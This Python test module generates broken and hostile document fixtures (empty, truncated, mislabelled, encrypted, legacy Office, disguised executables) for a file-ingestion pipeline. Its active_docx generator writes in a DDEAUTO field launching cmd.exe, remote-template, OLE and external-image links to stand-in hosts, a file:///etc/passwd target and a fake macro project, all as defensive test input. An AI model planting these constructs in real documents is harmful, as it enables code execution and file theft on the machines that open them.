"""Files that are empty, cut off, called what they are not, locked, or of formats that are not read."""

import gzip
import io
import struct
import zipfile
from random import Random

from tests.hostile.made import (
    NOT_A_REPORT,
    PROTECTED,
    REVIEWED,
    UNREADABLE,
    UNSUPPORTED,
    entries,
    hostile,
    packed,
    sound_docx,
    sound_html,
    sound_mht,
    sound_pdf,
    sound_text,
)

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x00\x00\x00\x00:~\x9bU"
    b"\x00\x00\x00\nIDATx\x9cc`\x00\x00\x00\x02\x00\x01H\xaf\xa4q\x00\x00\x00\x00IEND\xaeB`\x82"
)


@hostile(UNREADABLE)
def empty(number: int, rng: Random) -> tuple[str, bytes]:
    data = (
        b"",
        b" ",
        b"\n" * 5000,
        b"\xef\xbb\xbf",
        b"\xff\xfe",
        b"\xfe\xff",
        "\u3000\n\t".encode() * 100,
        b"\xef\xbb\xbf\r\n",
        "\u200b\ufeff\n".encode() * 9,
        b"\x0c\x0b\r",
    )
    suffix = ("docx", "pdf", "txt", "html", "txt", "txt", "txt", "md", "txt", "mht")[number]
    return f"a.{suffix}", data[number]


@hostile(UNREADABLE)
def truncated_docx(number: int, rng: Random) -> tuple[str, bytes]:
    data = sound_docx()
    return "a.docx", data[: max(4, len(data) * number // 10 + rng.randrange(50))]


@hostile(UNREADABLE, REVIEWED, NOT_A_REPORT)
def truncated_pdf(number: int, rng: Random) -> tuple[str, bytes]:
    data = sound_pdf()
    return "a.pdf", data[: max(8, len(data) * number // 10 + rng.randrange(50))]


@hostile(UNREADABLE, REVIEWED, NOT_A_REPORT)
def truncated_html(number: int, rng: Random) -> tuple[str, bytes]:
    data = sound_html().encode()
    return "a.html", data[: max(6, len(data) * number // 10 + rng.randrange(50))]


@hostile(UNREADABLE, REVIEWED, NOT_A_REPORT)
def truncated_mht(number: int, rng: Random) -> tuple[str, bytes]:
    data = sound_mht()
    return "a.mht", data[: max(60, len(data) * number // 10 + rng.randrange(50))]


@hostile(REVIEWED, UNSUPPORTED, UNREADABLE, NOT_A_REPORT)
def mislabelled(number: int, rng: Random) -> tuple[str, bytes]:
    return (
        ("a.docx", sound_pdf()),
        ("a.pdf", sound_docx()),
        ("a.doc", sound_html().encode()),
        ("a.docx", sound_text().encode()),
        ("a.txt", _PNG),
        ("a.docx", _office("xl/workbook.xml")),
        ("a.docx", _office("ppt/presentation.xml")),
        ("a.txt", sound_docx()),
        ("a.wps", sound_docx()),
        ("a", sound_mht()),
    )[number]


def _office(main: str) -> bytes:
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/officeDocument" Target="{main}"/></Relationships>'
    )
    root = b'<x xmlns="http://schemas.openxmlformats.org/other"/>'
    return packed(
        {"[Content_Types].xml": b"<Types/>", "_rels/.rels": relation.encode(), main: root}
    )


def compound_file(*streams: str, padding: int = 0) -> bytes:
    """An OLE compound file: its header and a directory that names these streams."""
    header = bytearray(512)
    header[:8] = _OLE
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<III", header, 44, 1, 1, 0)
    struct.pack_into("<III", header, 56, 4096, 0xFFFFFFFE, 0)
    header[76:512] = struct.pack("<I", 0) + b"\xff" * 432
    table = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE) + b"\xff" * 504
    directory = b""
    for number, name in enumerate(("Root Entry", *streams)[:4]):
        raw = name.encode("utf-16-le")
        entry = raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw) + 2, 5 if not number else 2, 1)
        directory += entry + b"\xff" * 12 + bytes(128 - 12 - len(entry))
    return bytes(header) + table + directory.ljust(512, b"\0") + bytes(padding)


@hostile(PROTECTED)
def locked_docx(number: int, rng: Random) -> tuple[str, bytes]:
    if number < 5:
        # What Word writes for a document with a password: the package, encrypted, in a compound file.
        return "a.docx", compound_file("EncryptionInfo", "EncryptedPackage", padding=number << 12)
    data = bytearray(sound_docx())
    at = -1
    while (at := data.find(b"PK\x03\x04", at + 1)) >= 0:
        data[at + 6] |= 1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 8] |= 1
    return ("a.docx", "a.docx", "a.zip", "a.wps", "a.txt")[number - 5], bytes(data)


@hostile(UNSUPPORTED)
def old_office(number: int, rng: Random) -> tuple[str, bytes]:
    streams = ("WordDocument", "WordDocument", "Workbook", "PowerPoint Document", "WpsContent")
    suffix = ("doc", "wps", "xls", "ppt", "wps", "docx", "txt", "pdf", "et", "dps")[number]
    return f"a.{suffix}", compound_file(streams[number % 5], padding=rng.randrange(4096))


@hostile(UNSUPPORTED)
def other_formats(number: int, rng: Random) -> tuple[str, bytes]:
    rtf = rb"{\rtf1\ansi\ansicpg936{\fonttbl{\f0 SimSun;}}\f0 " + b"\\'d2\\'bb" * 300 + b"}"
    mail = (
        "From: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\n\r\n年度报告见附件\r\n".encode()
    )
    return (
        ("a.rtf", rtf),
        ("a.doc", rtf),
        ("a.ofd", packed({"OFD.xml": b"<ofd:OFD xmlns:ofd='x'/>", "Doc_0/Document.xml": b"<x/>"})),
        ("a.xlsx", _office("xl/workbook.xml")),
        ("a.zip", packed({"年度报告.docx": sound_docx()})),
        ("a.rar", b"Rar!\x1a\x07\x01\x00" + rng.randbytes(3000)),
        ("a.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + rng.randbytes(3000)),
        ("a.gz", gzip.compress(sound_text().encode(), mtime=0)),
        ("a.eml", mail),
        (
            "a.odt",
            packed(
                {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}
            ),
        ),
    )[number]


@hostile(UNSUPPORTED)
def pictures_and_programs(number: int, rng: Random) -> tuple[str, bytes]:
    return (
        ("a.png", _PNG),
        ("a.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + rng.randbytes(2000)),
        ("a.gif", b"GIF89a" + rng.randbytes(2000)),
        ("a.tif", b"II*\x00" + rng.randbytes(2000)),
        ("a.bmp", b"BM" + rng.randbytes(2000)),
        ("a.docx", b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + rng.randbytes(3000)),
        ("a.pdf", b"\x7fELF\x02\x01\x01" + bytes(9) + rng.randbytes(3000)),
        ("a.txt", b"SQLite format 3\x00" + bytes(4096)),
        ("a.webp", b"RIFF\x00\x10\x00\x00WEBPVP8 " + rng.randbytes(2000)),
        ("a.txt", _tar()),
    )[number]


def _tar() -> bytes:
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("年度报告.txt")
        entry.size = 100
        archive.addfile(entry, io.BytesIO(b"x" * 100))
    return out.getvalue()


@hostile(REVIEWED)
def active_docx(number: int, rng: Random) -> tuple[str, bytes]:
    """Macros, controls, remote templates and external pictures: passed over, the text is reviewed."""
    parts = entries(sound_docx())
    main, rels = "word/document.xml", "word/_rels/document.xml.rels"
    kinds = (
        "attachedTemplate",
        "image",
        "oleObject",
        "frame",
        "hyperlink",
        "aFChunk",
        "subDocument",
    )
    targets = (
        "http://example.invalid/a.dotm",
        "file:///etc/passwd",
        "\\\\example.invalid\\share\\a",
        "https://example.invalid/",
    )
    relation = "".join(
        f'<Relationship Id="x{i}" TargetMode="External" Target="{targets[(i + number) % 4]}#{number}" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/>'
        for i, kind in enumerate(kinds)
    )
    parts[rels] = parts[rels].replace(b"</Relationships>", relation.encode() + b"</Relationships>")
    fields = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\'
        'system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://example.invalid/a.png"><w:r><w:t>图</w:t></w:r>'
        "</w:fldSimple></w:p>"
    )
    if number % 2:
        parts[main] = parts[main].replace(b"<w:sectPr", fields.encode() + b"<w:sectPr", 1)
    if number > 4:
        parts["word/vbaProject.bin"] = compound_file("VBA", "PROJECT")
        parts["word/activeX/activeX1.bin"] = rng.randbytes(500)
        parts["word/embeddings/oleObject1.bin"] = compound_file("Ole10Native")
        types = "[Content_Types].xml"
        parts[types] = parts[types].replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
    return ("a.docm" if number > 4 else "a.docx"), packed(parts)


def stored_zip(parts: dict[str, bytes]) -> bytes:
    return packed(parts, zipfile.ZIP_STORED)
